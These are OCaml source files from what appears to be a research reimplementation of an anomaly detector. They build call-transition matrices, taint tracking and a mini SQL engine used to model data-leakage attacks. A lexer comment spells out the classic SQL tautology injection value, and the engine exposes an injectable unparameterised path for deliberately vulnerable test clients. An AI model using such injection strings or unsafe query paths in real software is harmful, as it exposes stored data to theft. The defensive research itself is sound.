  ?seed:int ->
  string ->
  t

val get : ?params:(string * string) list -> string -> request
(** [get path] is a GET request. *)

val post : ?params:(string * string) list -> string -> request

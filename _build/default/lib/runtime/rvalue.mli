(** Run-time values of the interpreter, each carrying a taint bit: is
    this value (derived from) targeted data retrieved from the DB?

    The taint bit is the dynamic half of the paper's data-flow tracking
    (Sec. IV-D): output calls that receive tainted values are recorded
    with their [_Q<block>] label. *)

type file_mode = Read | Write | Append

type file_handle = {
  path : string;
  mode : file_mode;
  mutable read_lines : string list;  (** remaining lines in Read mode *)
  buffer : Buffer.t;  (** accumulated output in Write/Append mode *)
}

type base =
  | VInt of int
  | VStr of string
  | VBool of bool
  | VNull
  | VConn of Sqldb.Client.conn
  | VResult of Sqldb.Client.exec_result  (** libpq-style result *)
  | VCursor of Sqldb.Client.cursor  (** MySQL-style stored result *)
  | VPrepared of Sqldb.Client.prepared
  | VRow of Sqldb.Value.t array  (** MySQL-style fetched row *)
  | VFile of file_handle

type t = { base : base; taint : bool }

val int : ?taint:bool -> int -> t
val str : ?taint:bool -> string -> t
val bool : bool -> t
val null : t

val retaint : bool -> t -> t

val truthy : t -> bool
(** Condition semantics: false for [VBool false], [VInt 0], [VNull],
    and the empty string; true otherwise. *)

val to_display : t -> string
(** String form used by printf-style formatting. *)

val type_name : t -> string

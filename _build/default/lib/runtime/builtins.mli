(** Semantics of AppLang library calls.

    [dispatch] implements the raw effect and base result of each
    builtin; the interpreter then applies the generic taint policy from
    {!Applang.Libspec} (Source / Propagate / Clean) to the result. *)

val dispatch : Istate.t -> string -> Rvalue.t list -> Rvalue.t
(** @raise Istate.Error on arity/type errors or unknown builtins.
    @raise Istate.Program_exit from [exit]. *)

val format_args : string -> Rvalue.t list -> string
(** printf-style formatting: [%s], [%d], [%f] consume arguments in
    order (rendered via {!Rvalue.to_display}); [%%] is a literal
    percent. Exposed for tests. *)

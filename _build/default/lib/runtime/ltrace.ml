type stats = { mutable calls : int; mutable bytes : int }

let symtab_of_cfgs cfgs =
  let entries =
    List.concat_map
      (fun (name, cfg) -> List.map (fun id -> (id, name)) (Analysis.Cfg.node_ids cfg))
      cfgs
  in
  let arr = Array.of_list entries in
  Array.sort (fun (a, _) (b, _) -> compare a b) arr;
  arr

(* Binary search: largest entry with id <= the queried address, like
   addr2line scanning the symbol table. *)
let addr2line symtab addr =
  let n = Array.length symtab in
  if n = 0 then "??"
  else begin
    let lo = ref 0 and hi = ref (n - 1) in
    while !lo < !hi do
      let mid = (!lo + !hi + 1) / 2 in
      let id, _ = symtab.(mid) in
      if id <= addr then lo := mid else hi := mid - 1
    done;
    let id, name = symtab.(!lo) in
    Printf.sprintf "%s+0x%x" name ((addr - id) * 16)
  end

let make ~symtab =
  let stats = { calls = 0; bytes = 0 } in
  let log = Buffer.create 4096 in
  let emit ~symbol ~caller:_ ~block ~args =
    stats.calls <- stats.calls + 1;
    (* ltrace resolves the caller from the instruction pointer rather
       than receiving it from the runtime. *)
    let resolved = addr2line symtab (max block 0) in
    let rendered_args = List.map Rvalue.to_display args in
    let line =
      Printf.sprintf "%s->%s(%s) = <void>\n" resolved
        (Analysis.Symbol.name symbol)
        (String.concat ", " rendered_args)
    in
    Buffer.add_string log line;
    stats.bytes <- stats.bytes + String.length line
  in
  ({ Collector.emit }, stats, log)

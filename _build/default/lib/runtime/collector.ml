type event = {
  symbol : Analysis.Symbol.t;
  caller : string;
  block : int;
}

type trace = event array

type t = {
  emit :
    symbol:Analysis.Symbol.t ->
    caller:string ->
    block:int ->
    args:Rvalue.t list ->
    unit;
}

let null = { emit = (fun ~symbol:_ ~caller:_ ~block:_ ~args:_ -> ()) }

let adprom () =
  let events = ref [] in
  let count = ref 0 in
  let emit ~symbol ~caller ~block ~args:_ =
    events := { symbol; caller; block } :: !events;
    incr count
  in
  let trace () = Array.of_list (List.rev !events) in
  ({ emit }, trace)

let symbols_of_trace trace = Array.map (fun e -> e.symbol) trace

let pp_trace ppf trace =
  Format.fprintf ppf "@[<v>";
  Array.iter
    (fun e -> Format.fprintf ppf "%s @@ %a@," e.caller Analysis.Symbol.pp e.symbol)
    trace;
  Format.fprintf ppf "@]"

type position =
  | Before_block of int
  | After_block of int
  | At_function_entry of string

type injected_call = {
  name : string;
  leaks_td : bool;
}

type t = { position : position; calls : injected_call list }

let fires_before patches bid =
  List.filter (fun p -> p.position = Before_block bid) patches

let fires_after patches bid =
  List.filter (fun p -> p.position = After_block bid) patches

let fires_at_entry patches func =
  List.filter (fun p -> p.position = At_function_entry func) patches

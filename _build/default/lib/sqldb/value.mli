(** Values stored in the mini relational engine. *)

type t =
  | Int of int
  | Str of string
  | Null

val to_string : t -> string
(** Display form; [Null] prints as ["NULL"]. *)

val compare_values : t -> t -> int option
(** Three-way comparison following SQL semantics: [None] when either side
    is [Null] (comparisons with NULL are unknown), otherwise [Some c].
    Ints compare numerically, strings lexicographically; an int and a
    string compare via the string form of the int, which mirrors the
    stringly-typed behaviour of the C client code in the paper. *)

val equal : t -> t -> bool
(** Structural equality ([Null] equals [Null]); used by tests, not by
    SQL predicate evaluation. *)

val pp : Format.formatter -> t -> unit

type literal =
  | L_int of int
  | L_str of string
  | L_null
  | L_param of int

type cmp = Ceq | Cne | Clt | Cle | Cgt | Cge

type expr =
  | Col of string
  | Lit of literal
  | Cmp of cmp * expr * expr
  | And of expr * expr
  | Or of expr * expr
  | Not of expr
  | Like of expr * expr

type aggregate = Sum | Avg | Min_agg | Max_agg

type projection =
  | Star
  | Columns of string list
  | Count_star
  | Aggregate of aggregate * string

type order = Asc | Desc

type statement =
  | Create of { table : string; columns : string list }
  | Insert of { table : string; columns : string list option; values : literal list list }
  | Select of {
      projection : projection;
      table : string;
      where : expr option;
      order_by : (string * order) option;
      limit : int option;
    }
  | Update of { table : string; sets : (string * literal) list; where : expr option }
  | Delete of { table : string; where : expr option }

let literal_params = function L_param i -> [ i ] | L_int _ | L_str _ | L_null -> []

let rec expr_params = function
  | Col _ -> []
  | Lit l -> literal_params l
  | Cmp (_, a, b) | And (a, b) | Or (a, b) | Like (a, b) -> expr_params a @ expr_params b
  | Not a -> expr_params a

let where_params = function None -> [] | Some e -> expr_params e

let param_count stmt =
  let indices =
    match stmt with
    | Create _ -> []
    | Insert { values; _ } -> List.concat_map (List.concat_map literal_params) values
    | Select { where; _ } -> where_params where
    | Update { sets; where; _ } ->
        List.concat_map (fun (_, l) -> literal_params l) sets @ where_params where
    | Delete { where; _ } -> where_params where
  in
  List.fold_left (fun acc i -> max acc (i + 1)) 0 indices

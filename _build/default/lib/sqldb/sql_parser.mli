(** Recursive-descent parser for the SQL dialect. *)

exception Error of string

val parse : string -> Sql_ast.statement
(** Parse a single statement; a trailing [;] is allowed.
    [?] placeholders are numbered left to right starting at 0.
    @raise Error on a syntax error.
    @raise Sql_lexer.Error on a lexical error. *)

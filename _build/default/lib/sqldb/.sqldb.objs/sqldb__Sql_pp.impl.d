lib/sqldb/sql_pp.ml: Buffer List Printf Sql_ast Sql_lexer Sql_parser String

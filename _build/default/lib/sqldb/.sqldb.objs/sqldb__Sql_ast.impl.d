lib/sqldb/sql_ast.ml: List

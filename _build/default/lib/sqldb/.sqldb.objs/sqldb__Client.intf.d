lib/sqldb/client.mli: Engine Stdlib Value

lib/sqldb/engine.mli: Sql_ast Value

lib/sqldb/sql_pp.mli: Sql_ast

lib/sqldb/sql_lexer.ml: Buffer List Printf String

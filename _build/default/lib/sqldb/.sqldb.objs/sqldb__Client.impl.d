lib/sqldb/client.ml: Array Engine List Printf Sql_ast Sql_lexer Sql_parser Stdlib Value

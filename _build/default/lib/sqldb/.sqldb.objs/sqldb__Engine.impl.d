lib/sqldb/engine.ml: Array Hashtbl List Printf Sql_ast Sql_parser String Value

lib/sqldb/sql_lexer.mli:

lib/sqldb/value.ml: Format

lib/sqldb/sql_parser.mli: Sql_ast

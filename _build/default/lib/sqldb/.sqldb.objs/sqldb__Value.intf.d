lib/sqldb/value.mli: Format

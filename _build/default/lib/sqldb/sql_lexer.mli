(** Lexer for the SQL dialect.

    Keywords are case-insensitive. String literals use single quotes
    with [''] as the escaped quote, which is what makes the classic
    tautology injection [1' OR '1'='1] syntactically meaningful when a
    client concatenates it into a quoted literal. *)

type token =
  | T_int of int
  | T_str of string
  | T_ident of string  (** identifier, lower-cased *)
  | T_kw of string  (** keyword, upper-cased: SELECT, FROM, ... *)
  | T_star
  | T_comma
  | T_lparen
  | T_rparen
  | T_eq | T_ne | T_lt | T_le | T_gt | T_ge
  | T_param  (** [?] *)
  | T_semi
  | T_eof

exception Error of string

val tokenize : string -> token list
(** @raise Error on a lexical error (e.g. unterminated string). *)

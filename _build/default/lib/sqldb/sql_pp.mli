(** Printing and normalization of SQL statements.

    [signature] renders a statement with every literal replaced by [?],
    yielding the "query signature" of Sec. VII of the paper: recording
    signatures along with library calls mitigates attacks that keep the
    call sequence intact but alter the query structure. *)

val to_string : Sql_ast.statement -> string
(** Canonical rendering; parses back to an equal statement (modulo
    placeholder numbering). *)

val signature : Sql_ast.statement -> string
(** Literal-erased canonical form, e.g.
    [SELECT * FROM clients WHERE id = ?]. Two queries that differ only
    in constants share a signature; structural changes (extra OR,
    different columns) do not. *)

val signature_of_sql : string -> string option
(** Convenience: parse then [signature]; [None] when the text is not
    parseable SQL. *)

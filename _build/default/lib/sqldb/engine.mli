(** In-memory relational engine.

    Stands in for the PostgreSQL/MySQL servers of the paper's testbed:
    the client applications' behaviour (how many rows come back, hence
    how many output calls they issue) depends on real query evaluation,
    which is what the data-leakage attacks manipulate. *)

type t

type result = { columns : string array; rows : Value.t array array }

type outcome =
  | Rows of result  (** result set of a SELECT *)
  | Affected of int  (** row count of INSERT/UPDATE/DELETE, 0 for CREATE *)

exception Sql_error of string
(** Raised on semantic errors: unknown table/column, arity mismatch,
    missing prepared-statement parameter. *)

val create : unit -> t

val execute : ?params:Value.t array -> t -> Sql_ast.statement -> outcome
(** Run a parsed statement; [params] feeds [?] placeholders.
    @raise Sql_error on semantic errors. *)

val exec : t -> string -> outcome
(** Parse then execute, with no parameters (the unsafe, injectable path
    used by the vulnerable clients).
    @raise Sql_error / [Sql_parser.Error] / [Sql_lexer.Error]. *)

val table_names : t -> string list
val row_count : t -> string -> int
(** @raise Sql_error on an unknown table. *)

val like_match : pattern:string -> string -> bool
(** SQL LIKE semantics: [%] matches any run, [_] any single character.
    Exposed for direct testing. *)

type t =
  | Int of int
  | Str of string
  | Null

let to_string = function
  | Int n -> string_of_int n
  | Str s -> s
  | Null -> "NULL"

let compare_values a b =
  match (a, b) with
  | Null, _ | _, Null -> None
  | Int x, Int y -> Some (compare x y)
  | Str x, Str y -> Some (compare x y)
  | Int x, Str y -> Some (compare (string_of_int x) y)
  | Str x, Int y -> Some (compare x (string_of_int y))

let equal a b =
  match (a, b) with
  | Null, Null -> true
  | Int x, Int y -> x = y
  | Str x, Str y -> x = y
  | _ -> false

let pp ppf v = Format.pp_print_string ppf (to_string v)

type t = {
  program : Applang.Ast.program;
  cfgs : (string * Cfg.t) list;
  callgraph : Callgraph.t;
  sites : Cfg.Sites.sites;
  taint : Taint.result;
  ctms : (string * Ctm.t) list;
  pctm : Ctm.t;
}

let analyze ?(entry = "main") program =
  let cfgs, sites = Cfg_build.build_program program in
  let callgraph = Callgraph.build cfgs in
  let taint = Taint.analyze cfgs in
  let ctms = Forecast.ctms cfgs in
  let pctm = Aggregate.program_ctm ctms callgraph ~entry in
  { program; cfgs; callgraph; sites; taint; ctms; pctm }

let labeled_block t bid = List.mem bid t.taint.Taint.labeled_blocks

let block_of_call t expr = Cfg.Sites.block_of t.sites expr

let alphabet t = Ctm.calls t.pctm

(** Call symbols — the shared vocabulary of the static analysis, the
    trace collector and the HMM observation alphabet.

    A library call that outputs data retrieved from the database is
    labeled with the id of the code block issuing it, e.g.
    [printf_Q6] (Sec. IV-C1 of the paper). The virtual [Entry]/[Exit]
    symbols are the ε/ε′ endpoints of every call-transition matrix.

    The same call name can occur at several program points: statically
    (in CTMs) each occurrence is a distinct symbol carrying its [site]
    (the block id), which is what lets the paper list [printf'] and
    [printf''] as separate rows of Table I. At run time the collector
    only observes the call name (+ label), so observation symbols have
    [site = None]; {!observable} projects a static symbol onto what the
    collector would emit. *)

type t =
  | Entry  (** ε: function entry *)
  | Exit  (** ε′: function exit *)
  | Lib of { name : string; label : int option; site : int option }
      (** library call; [label = Some bid] marks a DB-output call issued
          from block [bid]; [site = Some bid] identifies the static call
          site in CTMs *)
  | Func of string  (** call to a user-defined function (inlined away
          during aggregation) *)

val lib : ?site:int -> ?label:int -> string -> t

val observable : t -> t
(** Forget the static site: the symbol as the run-time collector sees
    it (name + DB-output label). *)

val name : t -> string
(** Bare callee name; ["<entry>"] / ["<exit>"] for the virtual ends. *)

val strip_label : t -> t
(** Forget the DB-output label: what the CMarkov baseline sees. *)

val is_labeled : t -> bool

val compare : t -> t -> int
val equal : t -> t -> bool
val hash : t -> int

val to_string : t -> string
(** [printf], [printf_Q6], [f()], [eps], [eps']. *)

val pp : Format.formatter -> t -> unit

module Map : Map.S with type key = t
module Set : Set.S with type elt = t
module Table : Hashtbl.S with type key = t

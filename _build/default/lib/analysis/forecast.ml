(* Number of parallel edges x -> y. *)
let edge_multiplicity cfg x y =
  List.length (List.filter (fun s -> s = y) (Cfg.successors cfg x))

let conditional_probability cfg x y =
  let degree = Cfg.out_degree cfg x in
  if degree = 0 then 0.0
  else float_of_int (edge_multiplicity cfg x y) /. float_of_int degree

let reachability cfg =
  let order = Cfg.topological_order cfg in
  let reach = Hashtbl.create 32 in
  List.iter (fun id -> Hashtbl.replace reach id 0.0) (Cfg.node_ids cfg);
  Hashtbl.replace reach cfg.Cfg.entry 1.0;
  List.iter
    (fun x ->
      let rx = Hashtbl.find reach x in
      if rx > 0.0 then
        let degree = Cfg.out_degree cfg x in
        List.iter
          (fun y ->
            Hashtbl.replace reach y (Hashtbl.find reach y +. (rx /. float_of_int degree)))
          (Cfg.successors cfg x))
    order;
  List.map (fun id -> (id, Hashtbl.find reach id)) (Cfg.node_ids cfg)

(* Symbol carried by a node when it delimits call pairs, if any. *)
let node_symbol cfg id =
  let n = Cfg.node cfg id in
  match n.Cfg.event with
  | Cfg.E_entry -> Some Symbol.Entry
  | Cfg.E_exit -> Some Symbol.Exit
  | Cfg.E_call site -> Some (Cfg.symbol_of_site ~id site)
  | Cfg.E_bind _ | Cfg.E_cond _ | Cfg.E_return _ | Cfg.E_join -> None

let ctm cfg =
  let matrix = Ctm.create () in
  let order = Cfg.topological_order cfg in
  let position = Hashtbl.create 32 in
  List.iteri (fun i id -> Hashtbl.replace position id i) order;
  let reach = Hashtbl.create 32 in
  List.iter (fun (id, r) -> Hashtbl.replace reach id r) (reachability cfg);
  let sources =
    List.filter_map
      (fun id -> Option.map (fun s -> (id, s)) (node_symbol cfg id))
      (Cfg.node_ids cfg)
  in
  (* For a source call node x: propagate path weight through call-free
     nodes in topological order; weight stops at the next call-bearing
     node, where it contributes P^r_x * weight to the pair. *)
  let flow_from (x, sx) =
    if sx = Symbol.Exit then ()
    else begin
      let rx = Hashtbl.find reach x in
      if rx > 0.0 then begin
        let weight = Hashtbl.create 16 in
        let get id = match Hashtbl.find_opt weight id with Some w -> w | None -> 0.0 in
        let px = Hashtbl.find position x in
        Hashtbl.replace weight x 1.0;
        let suffix = List.filteri (fun i _ -> i >= px) order in
        List.iter
          (fun v ->
            let wv = get v in
            if wv > 0.0 then
              let stops = v <> x && node_symbol cfg v <> None in
              if stops then (
                match node_symbol cfg v with
                | Some sv -> Ctm.add matrix sx sv (rx *. wv)
                | None -> ())
              else
                let degree = Cfg.out_degree cfg v in
                List.iter
                  (fun s -> Hashtbl.replace weight s (get s +. (wv /. float_of_int degree)))
                  (Cfg.successors cfg v))
          suffix
      end
    end
  in
  List.iter flow_from sources;
  matrix

let ctms cfgs = List.map (fun (name, cfg) -> (name, ctm cfg)) cfgs

(** Aggregation of per-function CTMs into the program CTM (pCTM),
    Sec. IV-C3.

    Callee matrices are in-lined into their callers leaf-first (reverse
    topological order of the call graph). The four cases of the paper
    are implemented; for the internal-pair case the callee mass is
    scaled by the total entry mass [Σ_i P(m_i, f)] — the form under
    which the paper's three stated pCTM invariants actually hold (see
    DESIGN.md on the equation (8)/(9) typo). Recursive calls are
    approximated by one unrolling: the cyclic [Func] symbols are
    eliminated by flow-preserving pass-through before in-lining. *)

val inline_callee : caller:Ctm.t -> callee:string -> Ctm.t -> unit
(** [inline_callee ~caller ~callee callee_ctm] replaces the [Func
    callee] symbol inside [caller] by the callee's call pairs.
    No-op when the symbol does not occur. *)

val program_ctm : (string * Ctm.t) list -> Callgraph.t -> entry:string -> Ctm.t
(** Aggregate all functions reachable from [entry] (typically
    ["main"]); the result mentions only [Lib] symbols plus
    [Entry]/[Exit].
    @raise Invalid_argument if [entry] has no CTM. *)

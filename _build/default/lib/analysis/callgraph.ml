module SM = Map.Make (String)

type t = {
  order : string list;  (** program order *)
  callees : string list SM.t;
  callers : string list SM.t;
}

let build cfgs =
  let order = List.map fst cfgs in
  let callees_of (_, cfg) =
    List.filter_map
      (fun (_, site) -> if site.Cfg.is_user then Some site.Cfg.callee else None)
      (Cfg.call_nodes cfg)
    |> List.sort_uniq compare
  in
  let callees =
    List.fold_left (fun acc (name, _ as entry) -> SM.add name (callees_of entry) acc) SM.empty cfgs
  in
  let callers =
    SM.fold
      (fun caller cs acc ->
        List.fold_left
          (fun acc callee ->
            let cur = match SM.find_opt callee acc with Some l -> l | None -> [] in
            SM.add callee (cur @ [ caller ]) acc)
          acc cs)
      callees SM.empty
  in
  { order; callees; callers }

let functions t = t.order

let callees t name = match SM.find_opt name t.callees with Some l -> l | None -> []
let callers t name = match SM.find_opt name t.callers with Some l -> l | None -> []

(* Tarjan's algorithm; the natural output order (a component is emitted
   only after everything it reaches) is exactly leaf-first. *)
let sccs t =
  let index = Hashtbl.create 16 in
  let lowlink = Hashtbl.create 16 in
  let on_stack = Hashtbl.create 16 in
  let stack = ref [] in
  let next = ref 0 in
  let components = ref [] in
  let rec strongconnect v =
    Hashtbl.replace index v !next;
    Hashtbl.replace lowlink v !next;
    incr next;
    stack := v :: !stack;
    Hashtbl.replace on_stack v true;
    List.iter
      (fun w ->
        if not (Hashtbl.mem index w) then begin
          strongconnect w;
          Hashtbl.replace lowlink v (min (Hashtbl.find lowlink v) (Hashtbl.find lowlink w))
        end
        else if Hashtbl.find_opt on_stack w = Some true then
          Hashtbl.replace lowlink v (min (Hashtbl.find lowlink v) (Hashtbl.find index w)))
      (callees t v);
    if Hashtbl.find lowlink v = Hashtbl.find index v then begin
      let rec pop acc =
        match !stack with
        | [] -> acc
        | w :: rest ->
            stack := rest;
            Hashtbl.replace on_stack w false;
            if w = v then w :: acc else pop (w :: acc)
      in
      components := pop [] :: !components
    end
  in
  List.iter (fun v -> if not (Hashtbl.mem index v) then strongconnect v) t.order;
  List.rev !components

let recursive_partners t name =
  let component =
    match List.find_opt (fun c -> List.mem name c) (sccs t) with
    | Some c -> c
    | None -> [ name ]
  in
  let others = List.filter (fun f -> f <> name) component in
  if List.mem name (callees t name) then others @ [ name ] else others

(* In-lining a callee's CTM into a caller's (Sec. IV-C3).

   Model: every occurrence of the [Func callee] symbol in a caller pair
   is a "box" executing the callee once. Per execution, the box issues
   its first call k with probability [enter k = fC(eps, k)], or no call
   at all with probability [q = fC(eps, eps')]; symmetrically its last
   call is k with probability [leave k = fC(k, eps')]. The caller pair
   (f, f) ("box directly followed by box", e.g. two consecutive calls)
   makes chains of empty boxes possible; summing the geometric series
   with ratio [q * p_ff] (where [p_ff] is the fraction of box exits that
   feed another box) yields the closed form below. With no self pair it
   reduces exactly to the paper's cases 1-4, and it preserves the three
   pCTM invariants in general (property-tested). *)

let inline_callee ~caller ~callee callee_ctm =
  let fsym = Symbol.Func callee in
  let inflow_all = Ctm.column caller fsym in
  let outflow_all = Ctm.row caller fsym in
  if inflow_all = [] && outflow_all = [] then ()
  else begin
    let w_self = Ctm.get caller fsym fsym in
    let inflow = List.filter (fun (a, _) -> not (Symbol.equal a fsym)) inflow_all in
    let outflow = List.filter (fun (b, _) -> not (Symbol.equal b fsym)) outflow_all in
    let total = List.fold_left (fun acc (_, v) -> acc +. v) 0.0 inflow_all in
    Ctm.remove_symbol caller fsym;
    if total > 0.0 then begin
      let q = Ctm.get callee_ctm Symbol.Entry Symbol.Exit in
      let p_ff = w_self /. total in
      let ratio = q *. p_ff in
      (* ratio >= 1 means boxes are always empty and always chain:
         the flow can never surface again; drop it. *)
      if ratio < 1.0 -. 1e-12 then begin
        let h = 1.0 /. (1.0 -. ratio) in
        let enter =
          List.filter (fun (k, _) -> not (Symbol.equal k Symbol.Exit))
            (Ctm.row callee_ctm Symbol.Entry)
        in
        let leave =
          List.filter (fun (k, _) -> not (Symbol.equal k Symbol.Entry))
            (Ctm.column callee_ctm Symbol.Exit)
        in
        (* Internal callee pairs, scaled by the number of executions. *)
        Ctm.iter
          (fun k l w ->
            if not (Symbol.equal k Symbol.Entry) && not (Symbol.equal l Symbol.Exit) then
              Ctm.add caller k l (total *. w))
          callee_ctm;
        (* Predecessor -> first internal call (through empty chains). *)
        List.iter
          (fun (a, va) ->
            List.iter (fun (k, ek) -> Ctm.add caller a k (va *. ek *. h)) enter)
          inflow;
        (* Predecessor -> successor with no call at all. *)
        List.iter
          (fun (a, va) ->
            List.iter
              (fun (b, vb) -> Ctm.add caller a b (va *. q *. h *. vb /. total))
              outflow)
          inflow;
        (* Last internal call -> successor. *)
        List.iter
          (fun (k, lk) ->
            List.iter (fun (b, vb) -> Ctm.add caller k b (lk *. vb *. h)) outflow)
          leave;
        (* Last internal call -> first internal call of the next box
           (only with a self pair). *)
        if p_ff > 0.0 then
          List.iter
            (fun (k, lk) ->
              List.iter
                (fun (l, el) -> Ctm.add caller k l (total *. lk *. p_ff *. el *. h))
                enter)
            leave
      end
    end
  end

let program_ctm ctms callgraph ~entry =
  let find name = List.assoc_opt name ctms in
  (match find entry with
  | Some _ -> ()
  | None -> invalid_arg (Printf.sprintf "Aggregate.program_ctm: no CTM for %s" entry));
  (* Work on copies, leaf-first so a callee is fully resolved before it
     is inlined anywhere. *)
  let resolved : (string, Ctm.t) Hashtbl.t = Hashtbl.create 16 in
  let leaf_first = List.concat (Callgraph.sccs callgraph) in
  List.iter
    (fun name ->
      match find name with
      | None -> ()
      | Some ctm ->
          let work = Ctm.copy ctm in
          (* Inline every already-resolved callee. *)
          List.iter
            (fun callee ->
              match Hashtbl.find_opt resolved callee with
              | Some callee_ctm when callee <> name ->
                  inline_callee ~caller:work ~callee callee_ctm
              | Some _ | None -> ())
            (Callgraph.callees callgraph name);
          (* Approximate recursion (self and mutual) by one unrolling:
             eliminate the cyclic call symbols flow-preservingly. *)
          List.iter
            (fun partner -> Ctm.eliminate_symbol work (Symbol.Func partner))
            (Callgraph.recursive_partners callgraph name);
          (* Calls to functions without bodies degrade to pass-through. *)
          List.iter
            (fun s ->
              match s with
              | Symbol.Func _ -> Ctm.eliminate_symbol work s
              | Symbol.Entry | Symbol.Exit | Symbol.Lib _ -> ())
            (Ctm.symbols work);
          Hashtbl.replace resolved name work)
    leaf_first;
  match Hashtbl.find_opt resolved entry with
  | Some pctm -> pctm
  | None -> invalid_arg "Aggregate.program_ctm: entry not resolved"

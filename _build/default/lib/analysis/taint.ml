module Ast = Applang.Ast
module Libspec = Applang.Libspec
module SS = Set.Make (String)
module SM = Map.Make (String)

type summary = { const_taint : bool; param_taint : bool }

type result = {
  labeled_blocks : int list;
  summaries : (string * summary) list;
}

let rec expr_taint ~tainted ~summary_of (e : Ast.expr) =
  let sub x = expr_taint ~tainted ~summary_of x in
  match e with
  | Ast.Int _ | Ast.Str _ | Ast.Bool _ | Ast.Null -> false
  | Ast.Var v -> tainted v
  | Ast.Binop (_, a, b) -> sub a || sub b
  | Ast.Unop (_, a) -> sub a
  | Ast.Index (a, b) -> sub a || sub b
  | Ast.Call (name, args) -> (
      match summary_of name with
      | Some s -> s.const_taint || (s.param_taint && List.exists sub args)
      | None -> (
          match Libspec.taint_of name with
          | Libspec.Source -> true
          | Libspec.Propagate -> List.exists sub args
          | Libspec.Clean -> false))

(* Fixpoint state of the interprocedural analysis. *)
type state = {
  summaries : (string, summary) Hashtbl.t;
  (* actual may-taint of each function's parameters, joined over all
     call sites seen so far *)
  entry_taint : (string, bool array) Hashtbl.t;
}

let summary_of state name = Hashtbl.find_opt state.summaries name

(* Dataflow over one CFG given the taint of its parameters. Returns the
   per-node IN environments and whether a tainted value may be returned.
   Back edges participate so loop-carried taint converges. *)
let intra state (cfg : Cfg.t) (entry_env : SS.t) =
  let ins : (int, SS.t) Hashtbl.t = Hashtbl.create 32 in
  let get_in id = match Hashtbl.find_opt ins id with Some s -> s | None -> SS.empty in
  let transfer id env =
    match (Cfg.node cfg id).Cfg.event with
    | Cfg.E_bind (x, e) ->
        let tainted v = SS.mem v env in
        if expr_taint ~tainted ~summary_of:(summary_of state) e then SS.add x env
        else SS.remove x env
    | Cfg.E_entry | Cfg.E_exit | Cfg.E_call _ | Cfg.E_cond _ | Cfg.E_return _ | Cfg.E_join ->
        env
  in
  let edges id =
    Cfg.successors cfg id
    @ List.filter_map (fun (src, dst) -> if src = id then Some dst else None) cfg.Cfg.back_edges
  in
  Hashtbl.replace ins cfg.Cfg.entry entry_env;
  let visited = Hashtbl.create 32 in
  let work = Queue.create () in
  Queue.add cfg.Cfg.entry work;
  while not (Queue.is_empty work) do
    let id = Queue.pop work in
    Hashtbl.replace visited id ();
    let out = transfer id (get_in id) in
    List.iter
      (fun succ ->
        let cur = get_in succ in
        let joined = SS.union cur out in
        (* A node must be processed at least once even with an empty
           environment: taint can be generated (not just propagated). *)
        if (not (SS.equal joined cur)) || not (Hashtbl.mem visited succ) then begin
          Hashtbl.replace ins succ joined;
          Queue.add succ work
        end)
      (edges id)
  done;
  let ret_taint =
    List.exists
      (fun id ->
        match (Cfg.node cfg id).Cfg.event with
        | Cfg.E_return (Some e) ->
            let env = get_in id in
            expr_taint ~tainted:(fun v -> SS.mem v env) ~summary_of:(summary_of state) e
        | Cfg.E_return None | Cfg.E_entry | Cfg.E_exit | Cfg.E_call _ | Cfg.E_bind _
        | Cfg.E_cond _ | Cfg.E_join ->
            false)
      (Cfg.node_ids cfg)
  in
  (get_in, ret_taint)

let env_of_params (cfg : Cfg.t) flags =
  List.fold_left
    (fun (env, i) p -> ((if i < Array.length flags && flags.(i) then SS.add p env else env), i + 1))
    (SS.empty, 0) cfg.Cfg.params
  |> fst

let analyze cfgs =
  let state = { summaries = Hashtbl.create 16; entry_taint = Hashtbl.create 16 } in
  List.iter
    (fun (name, cfg) ->
      Hashtbl.replace state.summaries name { const_taint = false; param_taint = false };
      Hashtbl.replace state.entry_taint name
        (Array.make (List.length cfg.Cfg.params) false))
    cfgs;
  let changed = ref true in
  let update_summary name s =
    if Hashtbl.find state.summaries name <> s then begin
      Hashtbl.replace state.summaries name s;
      changed := true
    end
  in
  (* Propagate taint from a caller's dataflow into callee parameter
     assumptions. *)
  let propagate_call_sites (cfg : Cfg.t) get_in =
    List.iter
      (fun (id, site) ->
        if site.Cfg.is_user then begin
          match Hashtbl.find_opt state.entry_taint site.Cfg.callee with
          | None -> ()
          | Some flags ->
              let env = get_in id in
              let tainted v = SS.mem v env in
              List.iteri
                (fun i arg ->
                  if
                    i < Array.length flags && (not flags.(i))
                    && expr_taint ~tainted ~summary_of:(summary_of state) arg
                  then begin
                    flags.(i) <- true;
                    changed := true
                  end)
                site.Cfg.args
        end)
      (Cfg.call_nodes cfg)
  in
  while !changed do
    changed := false;
    List.iter
      (fun (name, cfg) ->
        let nparams = List.length cfg.Cfg.params in
        let _, ret_clean = intra state cfg SS.empty in
        let _, ret_all =
          intra state cfg (env_of_params cfg (Array.make nparams true))
        in
        update_summary name { const_taint = ret_clean; param_taint = ret_all };
        let actual = Hashtbl.find state.entry_taint name in
        let get_in, _ = intra state cfg (env_of_params cfg actual) in
        propagate_call_sites cfg get_in)
      cfgs
  done;
  (* Final labeling pass under the converged actual assumptions. *)
  let labeled = ref [] in
  List.iter
    (fun (name, cfg) ->
      let actual = Hashtbl.find state.entry_taint name in
      let get_in, _ = intra state cfg (env_of_params cfg actual) in
      List.iter
        (fun (id, site) ->
          site.Cfg.label <- None;
          if Libspec.is_sink site.Cfg.callee then begin
            let env = get_in id in
            let tainted v = SS.mem v env in
            if
              List.exists
                (expr_taint ~tainted ~summary_of:(summary_of state))
                site.Cfg.args
            then begin
              site.Cfg.label <- Some id;
              labeled := id :: !labeled
            end
          end)
        (Cfg.call_nodes cfg))
    cfgs;
  {
    labeled_blocks = List.sort compare !labeled;
    summaries =
      Hashtbl.fold (fun name s acc -> (name, s) :: acc) state.summaries []
      |> List.sort compare;
  }

module Pair = struct
  type t = Symbol.t * Symbol.t

  let equal (a1, b1) (a2, b2) = Symbol.equal a1 a2 && Symbol.equal b1 b2
  let hash (a, b) = (Symbol.hash a * 31) + Symbol.hash b
end

module Pairs = Hashtbl.Make (Pair)

type t = { cells : float Pairs.t }

let create () = { cells = Pairs.create 64 }

let copy t = { cells = Pairs.copy t.cells }

let get t a b = match Pairs.find_opt t.cells (a, b) with Some v -> v | None -> 0.0

let set t a b v = if v = 0.0 then Pairs.remove t.cells (a, b) else Pairs.replace t.cells (a, b) v

let add t a b v = set t a b (get t a b +. v)

let remove_symbol t s =
  let doomed = Pairs.fold (fun (a, b) _ acc -> if Symbol.equal a s || Symbol.equal b s then (a, b) :: acc else acc) t.cells [] in
  List.iter (Pairs.remove t.cells) doomed

let symbols t =
  let set =
    Pairs.fold
